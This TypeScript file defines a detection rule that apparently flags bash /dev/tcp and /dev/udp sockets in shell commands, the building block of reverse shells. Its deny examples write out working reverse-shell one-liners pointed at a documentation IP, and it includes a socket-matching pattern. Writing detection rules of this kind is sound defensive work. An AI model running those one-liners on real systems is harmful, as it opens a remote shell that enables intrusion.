/**
 * SH-AST-002: bash's /dev/tcp and /dev/udp pseudo-devices, the building block of reverse shells.
 * Needs from the bash extractor (BASH): a redirect on `exec` with an fd number
 * (`exec 196<>/dev/tcp/h/p`) currently yields no fact; and a `url: '/dev/tcp/h/p'` on the NetOpFact
 * would make the match below exact instead of inferred from scheme + actor.
 */
import { defineRule } from '../define-rule.js';
import { RAW_SOCKET_TOOLS } from '../helpers.js';
import { DOWNLOADERS } from './sh-ast-010-remote-code-execution.js';

const DEV_NET = /\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/;

export default defineRule({
  id: 'SH-AST-002',
  invariant: 'NO_SHELL_BREAKOUT',
  summary: 'Use of /dev/tcp or /dev/udp sockets (bash -i >& /dev/tcp/host/port).',
  remediationHint:
    'Raw /dev/tcp sockets are how reverse shells are built. Use an HTTP client for legitimate requests (curl -fsS https://host/path) and never connect a shell to a socket.',
  *check(facts) {
    const seen = new Set<number>();
    for (const f of facts.of('file')) {
      if (!/^\/dev\/(?:tcp|udp)\//.test(f.path)) continue;
      seen.add(f.span.start);
      yield { span: f.span, reason: `${f.actor} opens the socket ${f.path}`, suggestedAlternative: null };
    }
    for (const n of facts.of('net')) {
      const devNet =
        /^\/dev\/(?:tcp|udp)/.test(n.url ?? '') ||
        (n.url === undefined &&
          (n.scheme === 'tcp' || n.scheme === 'udp') &&
          !RAW_SOCKET_TOOLS.has(n.actor) &&
          !DOWNLOADERS.has(n.actor));
      if (seen.has(n.span.start) || !devNet) continue;
      seen.add(n.span.start);
      yield { span: n.span, reason: `${n.actor} opens a /dev/tcp socket to ${n.host}` };
    }
    for (const e of facts.of('exec')) {
      if (seen.has(e.span.start)) continue;
      const arg = e.argv.find((a) => DEV_NET.test(a));
      if (arg !== undefined) yield { span: e.span, reason: `${e.program} uses a /dev/tcp socket` };
    }
  },
  examples: {
    deny: [
      { input: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
      { input: "bash -c 'sh -i >& /dev/udp/203.0.113.7/4444 0>&1'" },
      { input: 'cat < /dev/tcp/10.0.0.1/80' },
    ],
    allow: [
      { input: 'ls /dev/ | grep tty', why: 'listing devices' },
      { input: 'echo hello > /dev/stderr', why: 'a stream, not a socket' },
    ],
  },
});
